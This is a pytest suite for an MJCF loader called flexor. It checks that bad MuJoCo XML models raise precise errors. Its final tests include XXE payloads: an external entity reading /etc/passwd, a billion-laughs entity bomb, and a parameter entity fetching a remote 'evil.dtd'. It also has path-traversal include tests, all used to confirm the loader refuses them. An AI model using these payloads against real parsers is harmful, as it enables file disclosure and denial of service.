"""Bad MJCF input: every problem is an MJCFError naming file, line, element and attribute."""

from __future__ import annotations

import os
import struct

import mujoco
import pytest

import flexor
from flexor import MJCFError


def _body(inner: str, head: str = "") -> str:
  return f"<mujoco>{head}\n<worldbody>\n<body name='b'>\n{inner}\n</body>\n</worldbody>\n</mujoco>"


_GOOD_BODY = "<joint name='j'/><geom size='0.1'/>"

# a body with a hinge, a ball joint, two sites and a fixed tendon; actuators go on line 17
_ACT_HEAD = ("<worldbody>\n<body name='b'>\n<joint name='j' limited='true' range='-1 1'/>\n"
             "<joint name='ball' type='ball'/>\n<geom size='0.1' pos='0.1 0 0'/>\n"
             "<site name='s'/>\n<site name='r' pos='0 0 1'/>\n</body>\n</worldbody>\n"
             "<tendon>\n<fixed name='t'>\n<joint joint='j' coef='1'/>\n</fixed>\n</tendon>\n")


def _act(inner: str, head: str = "") -> str:
  return f"<mujoco>{head}\n{_ACT_HEAD}<actuator>\n{inner}\n</actuator>\n</mujoco>"


# a body with a hinge, a ball joint, a cylinder and three sites; tendons start on line 12
_TEN_HEAD = ("<worldbody>\n<body name='b'>\n<joint name='j'/>\n<joint name='ball' type='ball'/>\n"
             "<geom name='g' type='cylinder' size='0.1 0.1' pos='0 0.5 0'/>\n<site name='s'/>\n"
             "<site name='r' pos='0 1 0'/>\n<site name='q' pos='0 2 0'/>\n</body>\n</worldbody>\n")


def _ten(inner: str, head: str = "") -> str:
  return f"<mujoco>{head}\n{_TEN_HEAD}<tendon>\n{inner}\n</tendon>\n</mujoco>"


# (test id, xml, line, element, attribute, a word the message must contain)
_CASES = [
    ("unknown_element", _body("<joint/><gem size='1'/>"), 4, "gem", None, "unrecognized element"),
    ("unknown_attribute", _body("<joint nme='x'/><geom size='1'/>"), 4, "joint", "nme",
     "unrecognized"),
    ("worldbody_attribute", "<mujoco>\n<worldbody name='w'/>\n</mujoco>", 2, "worldbody", "name",
     "unrecognized"),
    ("repeated_once_only", _body("<inertial pos='0 0 0' mass='1' diaginertia='1 1 1'/>\n"
                                 "<inertial pos='0 0 0' mass='1' diaginertia='1 1 1'/>"),
     5, "inertial", None, "at most once"),
    ("wrong_arity", _body("<joint pos='1 2'/><geom size='1'/>"), 4, "joint", "pos",
     "expected 3 numbers, got 2"),
    ("too_many_values", _body("<joint/><geom size='1 2 3 4'/>"), 4, "geom", "size",
     "expected 1 to 3 numbers, got 4"),
    ("non_numeric", _body("<joint/><geom size='0.1 abc'/>"), 4, "geom", "size", "'abc'"),
    ("nan", _body("<joint/><geom size='nan'/>"), 4, "geom", "size", "NaN"),
    ("negative_mass", _body("<joint/><geom size='1' mass='-1'/>"), 4, "geom", "mass",
     "non-negative"),
    ("negative_density", _body("<joint/><geom size='1' density='-5'/>"), 4, "geom", "density",
     "non-negative"),
    ("negative_size", _body("<joint/><geom type='box' size='1 -1 1'/>"), 4, "geom", "size",
     "size[1] must be positive"),
    ("negative_inertial_mass", _body("<joint/><inertial pos='0 0 0' mass='-1' "
                                     "diaginertia='1 1 1'/>"), 4, "inertial", "mass",
     "non-negative"),
    ("zero_axis", _body("<joint axis='0 0 0'/><geom size='1'/>"), 4, "joint", "axis",
     "zero length"),
    ("zero_quat", _body("<joint/><geom size='1' quat='0 0 0 0'/>"), 4, "geom", "quat",
     "zero norm"),
    ("zero_zaxis", _body("<joint/><geom size='1' zaxis='0 0 0'/>"), 4, "geom", "zaxis",
     "zero length"),
    ("two_orientations", _body("<joint/><geom size='1' quat='1 0 0 0' euler='0 0 0'/>"), 4,
     "geom", "euler", "multiple orientation"),
    ("fromto_sphere", _body("<joint/><geom size='1' fromto='0 0 0 1 0 0'/>"), 4, "geom",
     "fromto", "fromto requires"),
    ("pos_and_fromto", _body("<joint/><geom type='capsule' size='1' pos='0 1 0' "
                             "fromto='0 0 0 1 0 0'/>"), 4, "geom", "fromto", "both pos and fromto"),
    ("default_pos_and_fromto", _body("<joint/><site type='capsule' fromto='0 0 0 1 0 0'/>"
                                     "<geom size='1'/>", "<default><site pos='1 0 0'/></default>"),
     4, "site", "fromto", "both pos and fromto"),
    ("bad_keyword", _body("<joint type='hinj'/><geom size='1'/>"), 4, "joint", "type",
     "invalid keyword 'hinj'"),
    ("bad_bool", _body("<joint/><geom size='1'/>", "<compiler autolimits='yes'/>"), 1,
     "compiler", "autolimits", "invalid keyword"),
    ("bad_condim", _body("<joint/><geom size='1' condim='2'/>"), 4, "geom", "condim", "condim"),
    ("zero_timestep", _body(_GOOD_BODY, "<option timestep='0'/>"), 1, "option", "timestep",
     "must be positive"),
    ("negative_timestep", _body(_GOOD_BODY, "<option timestep='-0.01'/>"), 1, "option",
     "timestep", "must be positive"),
    ("bad_integrator", _body(_GOOD_BODY, "<option integrator='Verlet'/>"), 1, "option",
     "integrator", "invalid keyword"),
    ("bad_flag", _body(_GOOD_BODY, "<option><flag contact='off'/></option>"), 1, "flag",
     "contact", "invalid keyword"),
    ("global_coordinates", _body(_GOOD_BODY, "<compiler coordinate='global'/>"), 1, "compiler",
     "coordinate", "global coordinates"),
    ("bad_eulerseq", _body("<joint/><geom size='1' euler='0 0 1'/>", "<compiler eulerseq='xyw'/>"),
     4, "geom", "euler", "eulerseq"),
    ("unknown_class", _body("<joint class='nope'/><geom size='1'/>"), 4, "joint", "class",
     "unknown default class 'nope'"),
    ("unknown_childclass", _body("<joint/><geom size='1'/><body childclass='nope'>"
                                 "<geom size='1'/></body>"), 4, "body", "childclass",
     "unknown default class"),
    ("unnamed_nested_default", "<mujoco>\n<default>\n<default>\n<joint/>\n</default>\n"
     "</default>\n</mujoco>", 3, "default", "class", "need a name"),
    ("unknown_joint", "<mujoco>" + _body(_GOOD_BODY)[8:-9] + "\n<actuator>\n"
     "<motor joint='nope'/>\n</actuator>\n</mujoco>", 9, "motor", "joint",
     "unknown transmission joint 'nope'"),
    ("unknown_body", "<mujoco>" + _body(_GOOD_BODY)[8:-9] + "\n<equality>\n"
     "<connect body1='nope' anchor='0 0 0'/>\n</equality>\n</mujoco>", 9, "connect", "body1",
     "unknown body 'nope'"),
    ("unknown_tendon_joint", "<mujoco>" + _body(_GOOD_BODY)[8:-9] + "\n<tendon>\n<fixed>\n"
     "<joint joint='nope' coef='1'/>\n</fixed>\n</tendon>\n</mujoco>", 10, "joint", "joint",
     "unknown joint"),
    ("unknown_mesh", _body("<joint/><geom type='mesh' mesh='nope'/>"), 4, "geom", "mesh",
     "unknown mesh 'nope'"),
    ("unknown_fitted_mesh", _body("<joint/><geom type='box' mesh='nope'/>"), 4, "geom",
     "mesh", "unknown mesh 'nope'"),
    ("fitted_mesh_fromto", "<mujoco>\n<asset>\n<mesh name='m' vertex='0 0 0 1 0 0 0 1 0 0 0 1'/>"
     "\n</asset>\n<worldbody>\n<geom type='capsule' mesh='m' fromto='0 0 0 0 0 1'/>\n"
     "</worldbody>\n</mujoco>", 6, "geom", "fromto", "fromto cannot be used with mesh geom"),
    ("fitted_mesh_plane", "<mujoco>\n<asset>\n<mesh name='m' vertex='0 0 0 1 0 0 0 1 0 0 0 1'/>"
     "\n</asset>\n<worldbody>\n<geom type='plane' size='1 1 1' mesh='m'/>\n</worldbody>\n"
     "</mujoco>", 6, "geom", "type", "invalid geom type in fitting mesh"),
    ("unknown_material", _body("<joint/><geom size='.1' material='nope'/>"), 4, "geom",
     "material", "unknown material 'nope'"),
    ("repeated_material", "<mujoco>\n<asset>\n<material name='a'/>\n<material name='a'/>\n"
     "</asset>\n</mujoco>", 4, "material", "name", "repeated material name"),
    ("missing_mesh_file", "<mujoco>\n<asset>\n<mesh file='missing.stl'/>\n</asset>\n</mujoco>", 3,
     "mesh", "file", "missing.stl"),
    ("hfield_elevation_length", "<mujoco>\n<asset>\n<hfield name='h' nrow='2' ncol='2' "
     "size='1 1 1 1' elevation='1 2 3'/>\n</asset>\n</mujoco>", 3, "hfield", "elevation",
     "nrow*ncol"),
    ("hfield_without_grid", "<mujoco>\n<asset>\n<hfield name='h' size='1 1 1 1'/>\n</asset>\n"
     "</mujoco>", 3, "hfield", "nrow", "not specified"),
    ("missing_hfield_file", "<mujoco>\n<asset>\n<hfield file='missing.png' size='1 1 1 1'/>\n"
     "</asset>\n</mujoco>", 3, "hfield", "file", "missing.png"),
    ("bad_hfield_file", "<mujoco>\n<asset>\n<hfield file='model.xml' size='1 1 1 1' "
     "content_type='image/jpeg'/>\n</asset>\n</mujoco>", 3, "hfield", "content_type",
     "image/jpeg"),
    ("missing_include", "<mujoco>\n<include file='missing.xml'/>\n</mujoco>", 2, "include",
     "file", "missing.xml"),
    ("mocap_with_joint", "<mujoco>\n<worldbody>\n<body mocap='true'>\n<joint/>\n<geom size='1'/>"
     "\n</body>\n</worldbody>\n</mujoco>", 3, "body", "mocap", "mocap"),
    ("massless_moving_body", _body("<joint/><site/>"), 3, "body", None, "mass"),
    ("ball_then_hinge", _body("<joint type='ball'/><joint type='slide'/><joint/><geom size='1'/>"),
     4, "joint", "type", "cannot follow a ball joint"),
    ("seven_dofs", _body("<joint type='ball'/>" + "<joint type='slide'/>" * 4 + "<geom size='1'/>"),
     4, "joint", None, "more than 6 dofs"),
    ("key_size", _body(_GOOD_BODY) [:-9] + "\n<keyframe>\n<key qpos='1 2'/>\n</keyframe>\n"
     "</mujoco>", 9, "key", "qpos", "expected at most 1 numbers"),
    ("range_order", _body("<joint limited='true' range='1 -1'/><geom size='1'/>"), 4, "joint",
     "range", "smaller"),
    ("no_autolimits", _body("<joint range='-1 1'/><geom size='1'/>",
                            "<compiler autolimits='false'/>"), 4, "joint", "range", "limited"),
    ("repeated_name", _body("<joint name='j'/><geom size='1'/><body><joint name='j'/>"
                            "<geom size='1'/></body>"), 4, "joint", "name", "repeated joint"),
    ("default_bad_value", "<mujoco>\n<default>\n<geom size='x'/>\n</default>\n<worldbody>\n"
     "<geom/>\n</worldbody>\n</mujoco>", 3, "geom", "size", "'x'"),
    # joints
    ("free_joint_not_top_level", _body("<joint/><geom size='1'/><body><freejoint/>"
                                       "<geom size='1'/></body>"), 4, "freejoint", None,
     "child of the world"),
    ("free_joint_not_alone", _body("<freejoint/><joint/><geom size='1'/>"), 4, "freejoint", None,
     "only joint"),
    ("springdamper_half", _body("<joint springdamper='0.1 0'/><geom size='1'/>"), 4, "joint",
     "springdamper", "positive"),
    ("springyield_negative", _body("<joint springyield='-1'/><geom size='1'/>"), 4, "joint",
     "springyield", "negative"),
    ("springyield_free", _body("<joint type='free' springyield='1'/><geom size='1'/>"), 4,
     "joint", "springyield", "free joint"),
    ("actuatorgroupdisable_31", _body(_GOOD_BODY, "<option actuatorgroupdisable='31'/>"), 1,
     "option", "actuatorgroupdisable", "0..30"),
    # actuators: transmissions
    ("actuator_no_target", _act("<motor/>"), 17, "motor", None, "transmission target"),
    ("actuator_unknown_tendon", _act("<motor tendon='nope'/>"), 17, "motor", "tendon",
     "unknown transmission tendon 'nope'"),
    ("actuator_unknown_site", _act("<motor site='nope'/>"), 17, "motor", "site",
     "unknown transmission site"),
    ("actuator_unknown_refsite", _act("<motor site='s' refsite='nope'/>"), 17, "motor",
     "refsite", "unknown refsite"),
    ("actuator_unknown_body", _act("<adhesion body='nope' ctrlrange='0 1'/>"), 17, "adhesion",
     "body", "unknown transmission body"),
    ("actuator_unknown_slidersite", _act("<motor cranksite='s' slidersite='nope' "
                                         "cranklength='1'/>"), 17, "motor", "slidersite",
     "unknown slidersite"),
    ("crank_no_slidersite", _act("<motor cranksite='s' cranklength='1'/>"), 17, "motor",
     "slidersite", "slidersite"),
    ("crank_zero_length", _act("<motor cranksite='s' slidersite='r' cranklength='0'/>"), 17,
     "motor", "cranklength", "positive cranklength"),
    ("crank_negative_length", _act("<motor cranksite='s' slidersite='r' cranklength='-1'/>"), 17,
     "motor", "cranklength", "positive cranklength"),
    ("cranklength_on_joint", _act("<motor joint='j' cranklength='1'/>"), 17, "motor",
     "cranklength", "slider-crank"),
    ("refsite_on_joint", _act("<motor joint='j' refsite='r'/>"), 17, "motor", "refsite",
     "site transmission"),
    ("damping_on_site", _act("<motor site='s' damping='1'/>"), 17, "motor", "damping",
     "joint or tendon"),
    ("armature_on_site", _act("<motor site='s' armature='1'/>"), 17, "motor", "armature",
     "joint or tendon"),
    # actuators: types and parameters
    ("unknown_dyntype", _act("<general joint='j' dyntype='pd'/>"), 17, "general", "dyntype",
     "invalid keyword 'pd'"),
    ("unknown_gaintype", _act("<general joint='j' gaintype='linear'/>"), 17, "general",
     "gaintype", "invalid keyword"),
    ("unknown_biastype", _act("<general joint='j' biastype='quadratic'/>"), 17, "general",
     "biastype", "invalid keyword"),
    ("damper_no_ctrlrange", _act("<damper joint='j' kv='1'/>"), 17, "damper", "ctrlrange",
     "invalid ctrl range"),
    ("damper_negative_ctrlrange", _act("<damper joint='j' ctrlrange='-1 1'/>"), 17, "damper",
     "ctrlrange", "cannot be negative"),
    ("damper_negative_kv", _act("<damper joint='j' kv='-1' ctrlrange='0 1'/>"), 17, "damper",
     "kv", "cannot be negative"),
    ("adhesion_no_ctrlrange", _act("<adhesion body='b'/>"), 17, "adhesion", "ctrlrange",
     "invalid ctrl range"),
    ("adhesion_negative_gain", _act("<adhesion body='b' gain='-1' ctrlrange='0 1'/>"), 17,
     "adhesion", "gain", "cannot be negative"),
    ("kv_and_dampratio", _act("<position joint='j' kv='1' dampratio='1'/>"), 17, "position",
     "kv", "cannot both"),
    ("negative_kv", _act("<position joint='j' kv='-1'/>"), 17, "position", "kv",
     "cannot be negative"),
    ("negative_dampratio", _act("<position joint='j' dampratio='-1'/>"), 17, "position",
     "dampratio", "cannot be negative"),
    ("negative_timeconst", _act("<position joint='j' timeconst='-1'/>"), 17, "position",
     "timeconst", "cannot be negative"),
    ("inheritrange_and_ctrlrange", _act("<position joint='j' inheritrange='1' "
                                        "ctrlrange='0 1'/>"), 17, "position", "inheritrange",
     "cannot both"),
    ("inheritrange_no_range", _act("<position joint='ball' inheritrange='1'/>"), 17, "position",
     "inheritrange", "hinge and slide"),
    ("inheritrange_on_site", _act("<position site='s' inheritrange='1'/>"), 17, "position",
     "inheritrange", "joint and tendon"),
    ("inheritrange_unlimited", _act("<position tendon='t' inheritrange='1'/>"), 17, "position",
     "inheritrange", "needs a target with a range"),
    ("ctrlrange_no_autolimits", _act("<motor joint='j' ctrlrange='-1 1'/>",
                                     "<compiler autolimits='false'/>"), 17, "motor",
     "ctrlrange", "ctrllimited"),
    ("forcerange_reversed", _act("<motor joint='j' forcelimited='true' forcerange='1 -1'/>"),
     17, "motor", "forcerange", "invalid force range"),
    ("actrange_stateless", _act("<general joint='j' actrange='-1 1'/>"), 17, "general",
     "actrange", "no activation"),
    ("actdim_stateless", _act("<general joint='j' actdim='1'/>"), 17, "general", "actdim",
     "actdim 1"),
    ("actdim_too_large", _act("<general joint='j' dyntype='filter' actdim='2'/>"), 17,
     "general", "actdim", "actdim > 1"),
    ("fixed_gain_input", _act("<general joint='j' input='pos vel'/>"), 17, "general", "input",
     "one input"),
    ("input_order", _act("<pid joint='j' input='vel pos'/>"), 17, "pid", "input",
     "canonical order"),
    ("muscle_range", _act("<muscle joint='j' range='1 0.5' lengthrange='0 1'/>"), 17, "muscle",
     "range", "range[0] < range[1]"),
    ("muscle_lmin", _act("<muscle joint='j' lmin='1.2' lengthrange='0 1'/>"), 17, "muscle",
     "lmin", "lmin < 1 < lmax"),
    ("muscle_negative_tausmooth", _act("<muscle joint='j' tausmooth='-1'/>"), 17, "muscle",
     "tausmooth", "cannot be negative"),
    # actuators: orientation, pid, dcmotor
    ("orientation_on_hinge", _act("<orientation joint='j'/>"), 17, "orientation", "joint",
     "ball joint"),
    ("orientation_no_refsite", _act("<orientation site='s'/>"), 17, "orientation", "site",
     "refsite"),
    ("orientation_forcerange", _act("<orientation joint='ball' forcerange='-1 1'/>"), 17,
     "orientation", "forcerange", "lower bound must be 0"),
    ("orientation_quat_integrator", _act("<general joint='ball' gaintype='so3' biastype='so3' "
                                         "biasprm='0 -1' dyntype='integrator' input='quat'/>"),
     17, "general", "input", "quat"),
    ("pid_ki_without_pos", _act("<pid joint='j' ki='1' input='vel'/>"), 17, "pid", "input",
     "pos input"),
    ("pid_voltage", _act("<pid joint='j' input='voltage'/>"), 17, "pid", "input",
     "subset of [pos, vel, ff]"),
    ("pid_on_body", _act("<general body='b' gaintype='pid' biastype='affine' gainprm='0'/>"), 17,
     "general", "body", "body transmission"),
    ("pid_negative_slewmax", _act("<pid joint='j' slewmax='-1'/>"), 17, "pid", "slewmax",
     "cannot be negative"),
    ("dcmotor_no_motorconst", _act("<dcmotor joint='j' resistance='2'/>"), 17, "dcmotor",
     "motorconst", "motor constant"),
    ("dcmotor_no_resistance", _act("<dcmotor joint='j' motorconst='0.1'/>"), 17, "dcmotor",
     "resistance", "resistance"),
    ("dcmotor_negative_motorconst", _act("<dcmotor joint='j' motorconst='0.1 -1' "
                                         "resistance='1'/>"), 17, "dcmotor", "motorconst",
     "non-negative"),
    ("dcmotor_controller_without_input", _act("<dcmotor joint='j' motorconst='0.1' "
                                              "resistance='1' controller='1'/>"), 17,
     "dcmotor", "controller", "controller input"),
    ("dcmotor_thermal", _act("<dcmotor joint='j' motorconst='0.1' resistance='1' "
                             "thermal='1'/>"), 17, "dcmotor", "thermal", "capacitance"),
    ("dcmotor_actearly", _act("<general joint='j' gaintype='dcmotor' biastype='dcmotor' "
                              "dyntype='dcmotor' gainprm='2 0.1'/>"), 17, "general",
     "actearly", "actearly"),
    ("delay_without_history", _act("<motor joint='j' delay='0.1'/>"), 17, "motor", "delay",
     "nsample"),
    ("history_without_input", _act("<dcmotor joint='j' motorconst='0.1' resistance='1' "
                                   "input='none' nsample='2'/>"), 17, "dcmotor", "nsample",
     "input"),
    ("history_interp", _act("<motor joint='j' nsample='2' interp='quad'/>"), 17, "motor",
     "interp", "invalid keyword"),
    ("history_samples", _act("<motor joint='j' nsample='16777217'/>"), 17, "motor", "nsample",
     "2^24"),
    ("actuator_user_count", _act("<motor joint='j' user='1 2'/>", "<size nuser_actuator='1'/>"),
     17, "motor", "user", "nuser_actuator"),
    ("nuser_actuator", _act("<motor joint='j'/>", "<size nuser_actuator='-2'/>"), 1, "size",
     "nuser_actuator", ">= -1"),
    ("nconmax", _act("<motor joint='j'/>", "<size nconmax='-2'/>"), 1, "size", "nconmax",
     ">= -1"),
    # tendons
    ("tendon_empty", _ten("<fixed/>"), 13, "fixed", None, "cannot be empty"),
    ("tendon_one_site", _ten("<spatial>\n<site site='s'/>\n</spatial>"), 13, "spatial", None,
     "at least two"),
    ("tendon_unknown_site", _ten("<spatial>\n<site site='s'/>\n<site site='nope'/>\n"
                                 "</spatial>"), 15, "site", "site", "unknown site 'nope'"),
    ("tendon_missing_coef", _ten("<fixed>\n<joint joint='j'/>\n</fixed>"), 14, "joint", "coef",
     "required"),
    ("tendon_ball_joint", _ten("<fixed>\n<joint joint='ball' coef='1'/>\n</fixed>"), 14,
     "joint", "joint", "slide and hinge"),
    ("tendon_repeated_joint", _ten("<fixed>\n<joint joint='j' coef='1'/>\n"
                                   "<joint joint='j' coef='2'/>\n</fixed>"), 15, "joint", None,
     "twice"),
    ("tendon_consecutive_pulleys", _ten("<spatial>\n<site site='s'/>\n<site site='r'/>\n"
                                        "<pulley divisor='1'/>\n<pulley divisor='1'/>\n"
                                        "<site site='r'/>\n<site site='q'/>\n</spatial>"), 17,
     "pulley", None, "consecutive pulleys"),
    ("tendon_pulley_last", _ten("<spatial>\n<site site='s'/>\n<site site='r'/>\n"
                                "<pulley divisor='1'/>\n</spatial>"), 16, "pulley", None,
     "end with a pulley"),
    ("tendon_pulley_divisor", _ten("<spatial>\n<site site='s'/>\n<site site='r'/>\n"
                                   "<pulley divisor='0'/>\n<site site='r'/>\n"
                                   "<site site='q'/>\n</spatial>"), 16, "pulley", "divisor",
     "positive"),
    ("tendon_lonely_site", _ten("<spatial>\n<site site='s'/>\n<pulley divisor='1'/>\n"
                                "<site site='r'/>\n<site site='q'/>\n</spatial>"), 14, "site",
     None, "neighbour"),
    ("tendon_repeated_site", _ten("<spatial>\n<site site='s'/>\n<site site='s'/>\n"
                                  "</spatial>"), 15, "site", None, "twice"),
    ("tendon_geom_at_end", _ten("<spatial>\n<site site='s'/>\n<geom geom='g'/>\n</spatial>"),
     15, "geom", None, "site before and after"),
    ("tendon_armature_wrap", _ten("<spatial armature='1'>\n<site site='s'/>\n<geom geom='g'/>"
                                  "\n<site site='r'/>\n</spatial>"), 13, "spatial", "armature",
     "geom wrapping"),
    ("tendon_negative_armature", _ten("<fixed armature='-1'>\n<joint joint='j' coef='1'/>\n"
                                      "</fixed>"), 13, "fixed", "armature", "negative"),
    ("tendon_springlength_order", _ten("<fixed springlength='1 0'>\n<joint joint='j' "
                                       "coef='1'/>\n</fixed>"), 13, "fixed", "springlength",
     "lower <= upper"),
    ("tendon_springyield", _ten("<fixed springyield='-1'>\n<joint joint='j' coef='1'/>\n"
                                "</fixed>"), 13, "fixed", "springyield", "negative"),
    ("tendon_range", _ten("<fixed limited='true' range='1 0'>\n<joint joint='j' coef='1'/>\n"
                          "</fixed>"), 13, "fixed", "range", "smaller"),
    ("tendon_actuatorfrcrange", _ten("<fixed actuatorfrcrange='1 2'>\n<joint joint='j' "
                                     "coef='1'/>\n</fixed>"), 13, "fixed", "actuatorfrcrange",
     "contains 0"),
    ("tendon_width", _ten("<spatial width='0'>\n<site site='s'/>\n<site site='r'/>\n"
                          "</spatial>"), 13, "spatial", "width", "positive width"),
    ("tendon_user_count", _ten("<fixed user='1'>\n<joint joint='j' coef='1'/>\n</fixed>",
                               "<size nuser_tendon='0'/>"), 13, "fixed", "user", "nuser_tendon"),
    ("tendon_no_autolimits", _ten("<fixed range='0 1'>\n<joint joint='j' coef='1'/>\n"
                                  "</fixed>", "<compiler autolimits='false'/>"), 13, "fixed",
     "range", "limited"),
    ("camera_target", _body(_GOOD_BODY + "<camera mode='targetbody' target='nope'/>"), 4,
     "camera", "target", "unknown target body 'nope'"),
    ("camera_fovy", _body(_GOOD_BODY + "<camera fovy='180'/>"), 4, "camera", "fovy",
     "fovy too large"),
    ("camera_focal", _body(_GOOD_BODY + "<camera focal='0.01 0.01'/>"), 4, "camera", "focal",
     "require sensorsize"),
    ("camera_mode", _body(_GOOD_BODY + "<camera mode='orbit'/>"), 4, "camera", "mode",
     "invalid keyword"),
    ("light_target", _body(_GOOD_BODY + "<light mode='targetbody' target='nope'/>"), 4,
     "light", "target", "unknown target body 'nope'"),
    ("camera_repeated", _body(_GOOD_BODY + "<camera name='c'/>\n<camera name='c'/>"), 5,
     "camera", "name", "repeated camera name"),
    ("mesh_maxhullvert", "<mujoco><asset><mesh name='m' maxhullvert='3' vertex='0 0 0 1 0 0 "
     "0 1 0 0 0 1'/></asset></mujoco>", 1, "mesh", "maxhullvert", "larger than 3"),
    ("key_plastic_size", "<mujoco><worldbody><body><joint stiffness='1' springyield='0.5'/>"
     "<geom size='1'/></body></worldbody><keyframe><key plastic='0.1 0.2'/></keyframe></mujoco>",
     1, "key", "plastic", "at most 1 numbers"),
    ("fusestatic_free_below_kept_body", "<mujoco>\n<compiler fusestatic='true'/>\n"
     "<worldbody>\n<body name='shelf'>\n<geom size='.1'/>\n<body>\n<freejoint/>\n"
     "<geom size='.1'/>\n</body>\n</body>\n</worldbody>\n<contact><exclude body1='shelf' "
     "body2='shelf'/></contact>\n</mujoco>", 7, "freejoint", None, "child of the world"),
    ("fusestatic_inertia", "<mujoco>\n<compiler fusestatic='true'/>\n<worldbody>\n"
     "<body name='p'>\n<joint/>\n<geom size='.1' mass='0'/>\n<body pos='.1 0 0'>\n"
     "<inertial pos='0 0 0' mass='1' diaginertia='1e-20 1e-20 1e-20'/>\n</body>\n</body>\n"
     "</worldbody>\n</mujoco>", 4, "body", None, "static bodies fused into this body"),
]

# Features flexor refuses with "not supported by flexor yet" although MuJoCo compiles them.
_UNSUPPORTED = [
    ("actuator_plugin", _act("<plugin joint='j' instance='p'/>",
                             "<extension><plugin plugin='mujoco.pid'><instance name='p'>"
                             "<config key='kp' value='1'/></instance></plugin></extension>"),
     17, "plugin", "instance"),
    ("flex", "<mujoco><worldbody><body name='a'><freejoint/><geom size='.1'/></body>"
     "<body name='b' pos='1 0 0'><freejoint/><geom size='.1'/></body></worldbody><deformable>"
     "<flex name='f' dim='1' body='a b' vertex='0 0 0 0 0 0' element='0 1'/></deformable>"
     "</mujoco>", 1, "flex", None),
    ("integrator_discrete", "<mujoco><option integrator='discrete'/></mujoco>", 1, "option",
     "integrator"),
]


@pytest.mark.parametrize("xml,line,element,attribute,word",
                         [pytest.param(*c[1:], id=c[0]) for c in _CASES])
def test_bad_model(tmp_path, xml, line, element, attribute, word):
  path = tmp_path / "model.xml"
  path.write_text(xml)
  with pytest.raises(MJCFError) as info:
    flexor.load_mjcf(path)
  e = info.value
  assert word in str(e), str(e)
  assert (e.file, e.line, e.element, e.attribute) == (str(path), line, element, attribute), str(e)


def test_cases_are_rejected_by_mujoco_too(tmp_path):
  """Guards 'never refuse a model MuJoCo compiles': MuJoCo rejects every bad case as well."""
  accepted = []
  for case in _CASES:
    path = tmp_path / f"{case[0]}.xml"
    path.write_text(case[1])
    try:
      mujoco.MjModel.from_xml_path(str(path))
    except Exception:  # pylint: disable=broad-except
      continue
    accepted.append(case[0])
  # MuJoCo 4.0 compiles a zero or negative timestep; flexor refuses them (see the issue).
  assert set(accepted) <= {"zero_timestep", "negative_timestep"}, accepted


def test_malformed_xml(tmp_path):
  path = tmp_path / "bad.xml"
  path.write_text("<mujoco>\n<worldbody>\n<body>\n</worldbody>\n</mujoco>")
  with pytest.raises(MJCFError, match="malformed XML") as info:
    flexor.load_mjcf(path)
  assert info.value.file == str(path) and info.value.line == 4


def test_root_element(tmp_path):
  path = tmp_path / "bad.xml"
  path.write_text("<robot/>")
  with pytest.raises(MJCFError, match="root element") as info:
    flexor.load_mjcf(path)
  assert info.value.element == "robot"


_EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE mujoco [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<mujoco model="&secret;"/>"""

_ENTITY_BOMB = """<?xml version="1.0"?>
<!DOCTYPE mujoco [
<!ENTITY a "aaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
<!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
]>
<mujoco model="&h;"/>"""

_PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE mujoco [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<mujoco/>"""


@pytest.mark.parametrize("xml", [_EXTERNAL_ENTITY, _ENTITY_BOMB, _PARAMETER_ENTITY],
                         ids=["external_entity", "entity_bomb", "parameter_entity"])
def test_entities_refused(xml):
  with pytest.raises(MJCFError) as info:
    flexor.load_mjcf_string(xml)
  assert "entit" in str(info.value) or "DOCTYPE" in str(info.value), str(info.value)
  assert "root:" not in str(info.value)


def test_undeclared_entity_refused():
  with pytest.raises(MJCFError, match="malformed XML|entity"):
    flexor.load_mjcf_string("<mujoco model='&undefined;'/>")


def test_include_escaping_root(tmp_path):
  inner = tmp_path / "models"
  inner.mkdir()
  (tmp_path / "outside.xml").write_text("<mujoco><option timestep='0.01'/></mujoco>")
  path = inner / "model.xml"
  path.write_text("<mujoco>\n<include file='../outside.xml'/>\n</mujoco>")
  assert flexor.load_mjcf(path).opt.timestep == 0.01   # allowed without a root
  with pytest.raises(MJCFError, match="outside the allowed root") as info:
    flexor.load_mjcf(path, root=inner)
  assert (info.value.line, info.value.element, info.value.attribute) == (2, "include", "file")


def test_absolute_asset_escaping_root(tmp_path):
  inner = tmp_path / "models"
  inner.mkdir()
  path = inner / "model.xml"
  path.write_text(f"<mujoco>\n<asset>\n<mesh file='{os.path.abspath('/etc/hostname')}'/>\n"
                  "</asset>\n</mujoco>")
  with pytest.raises(MJCFError, match="outside the allowed root") as info:
    flexor.load_mjcf(path, root=inner)
  assert (info.value.line, info.value.element, info.value.attribute) == (3, "mesh", "file")


def test_recursive_include(tmp_path):
  (tmp_path / "a.xml").write_text("<mujoco>\n<include file='b.xml'/>\n</mujoco>")
  (tmp_path / "b.xml").write_text("<mujoco>\n\n<include file='a.xml'/>\n</mujoco>")
  with pytest.raises(MJCFError, match="recursive include") as info:
    flexor.load_mjcf(tmp_path / "a.xml")
  assert info.value.file == os.path.realpath(tmp_path / "b.xml") and info.value.line == 3


def test_error_in_included_file_names_that_file(tmp_path):
  (tmp_path / "part.xml").write_text("<mujoco>\n<worldbody>\n\n<geom size='-1'/>\n</worldbody>"
                                     "\n</mujoco>")
  path = tmp_path / "model.xml"
  path.write_text("<mujoco>\n<include file='part.xml'/>\n</mujoco>")
  with pytest.raises(MJCFError) as info:
    flexor.load_mjcf(path)
  assert info.value.file == os.path.realpath(tmp_path / "part.xml")
  assert (info.value.line, info.value.element, info.value.attribute) == (4, "geom", "size")


def _tetrahedron_stl() -> bytes:
  verts = [(0, 0, 0), (1, 0, 0), (0, 1, 0), (0, 0, 1)]
  faces = [(0, 2, 1), (0, 1, 3), (0, 3, 2), (1, 2, 3)]
  out = b"\0" * 80 + struct.pack("<I", len(faces))
  for f in faces:
    out += struct.pack("<3f", 0, 0, 0)
    for i in f:
